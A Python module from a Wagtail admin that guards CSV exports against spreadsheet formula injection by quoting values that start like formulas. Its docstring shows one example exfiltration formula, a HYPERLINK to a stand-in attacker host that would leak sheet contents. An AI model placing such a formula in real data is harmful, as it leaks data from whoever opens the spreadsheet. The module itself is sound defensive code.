"""Spreadsheet exports of the admin without formulas (OWASP "CSV injection").

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (or with a tab or a
carriage return before one) as a formula: an organisation named
``=HYPERLINK("https://evil.example/?"&A1)`` would be a link that leaks the sheet, and DDE
payloads can start programs. ``spreadsheet_safe`` writes such a value with a leading single
quote, which spreadsheets show as text.

Every CSV export of the admin goes through Wagtail's ``SpreadsheetExportMixin.write_csv_row``:
snippet and ``ModelViewSet`` index views, wagtail-modeladmin's ``IndexView`` (subscribers,
campaigns, consultations), Wagtail's reports, redirects and form submissions. The mixin below
is that method with the values made safe; ``protect_admin_exports`` (run when the portal app
is ready) gives it to ``SpreadsheetExportMixin`` itself, so that every export, including the
views that Wagtail declares, writes safe rows without each view having to remember it. XLSX
exports need nothing: Wagtail already stores formula-looking cells as text there.
"""

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value):
    """``value`` as a spreadsheet shows it, never runs it: a string beginning like a formula
    gets a leading single quote; everything else is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class SpreadsheetSafeExportMixin:
    """For a view built on Wagtail's ``SpreadsheetExportMixin``: its CSV rows are written with
    ``spreadsheet_safe`` applied to every value, after Wagtail's own preprocessing."""

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: spreadsheet_safe(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )


def protect_admin_exports():
    SpreadsheetExportMixin.write_csv_row = SpreadsheetSafeExportMixin.write_csv_row
